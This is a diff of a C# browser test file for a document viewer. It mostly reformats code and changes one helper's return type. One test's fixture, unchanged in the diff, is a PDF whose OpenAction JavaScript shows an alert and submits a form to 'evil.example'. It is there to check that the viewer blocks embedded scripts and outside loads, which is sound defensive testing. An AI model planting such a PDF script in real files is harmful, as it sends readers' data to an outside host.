@@ -167,7 +167,9 @@ public sealed partial class ViewerBrowserTests(TownHall town, Browser browser)
         }
         await using var fax = await Open(await papers.Put(Fax.TwoPages(), "image/tiff", "fax.tif"), Remarks + Form);
         await fax.Page.WaitForSelectorAsync("#seite-1 .u-mark.u-rank--green");
-        var size = await fax.Page.EvaluateAsync<double>("() => { const i = document.querySelector('#seite-1 img'); return i.naturalWidth / i.naturalHeight; }");
+        var size = await fax.Page.EvaluateAsync<double>(
+            "() => { const i = document.querySelector('#seite-1 img'); return i.naturalWidth / i.naturalHeight; }"
+        );
         await fax.Picture("viewer-fax");
 
         Assert.Equal(1728 / 2290.0, size, 0.001);
@@ -194,7 +196,8 @@ public sealed partial class ViewerBrowserTests(TownHall town, Browser browser)
     [Fact]
     public async Task Script_inside_a_pdf_is_not_run_and_nothing_is_loaded_from_elsewhere()
     {
-        var pdf = """
+        var pdf =
+            """
             %PDF-1.4
             1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\(1\); this.submitForm\("https://evil.example/"\);)>>>> endobj
             2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj
@@ -227,7 +230,10 @@ public sealed partial class ViewerBrowserTests(TownHall town, Browser browser)
         var document = await papers.PutPdf(Papers.Letter());
         var second = Papers.Letter("80 Euro");
         await papers.AddVersion(document, second, "application/pdf", "neu.pdf", await papers.Text(second));
-        var name = phone ? "phone" : dark ? "dark" : "light";
+        var name =
+            phone ? "phone"
+            : dark ? "dark"
+            : "light";
 
         await using var view = await Open(document, Remarks + Form, dark, phone);
         await view.Page.WaitForSelectorAsync("#seite-1 .u-mark");
@@ -243,7 +249,13 @@ public sealed partial class ViewerBrowserTests(TownHall town, Browser browser)
     }
 
     /// <summary>The document's page, with more beside the view, as another page has it.</summary>
-    private async Task<Window> Open(DocumentId document, string beside = "", bool dark = false, bool phone = false, Action<IPage>? prepare = null)
+    private async Task<Window> Open(
+        DocumentId document,
+        string beside = "",
+        bool dark = false,
+        bool phone = false,
+        Action<IPage>? prepare = null
+    )
     {
         using var visitor = await town.SignedIn("sommer");
         var window = await browser.Open(town.Host.Address, dark, phone);
@@ -270,7 +282,7 @@ public sealed partial class ViewerBrowserTests(TownHall town, Browser browser)
     [GeneratedRegex("</aside>", RegexOptions.None, 1000)]
     private static partial Regex LastAside();
 
-    private static Task Select(Window window, string words) =>
+    private static Task<System.Text.Json.JsonElement?> Select(Window window, string words) =>
         window.Page.EvaluateAsync(
             """
             words => {
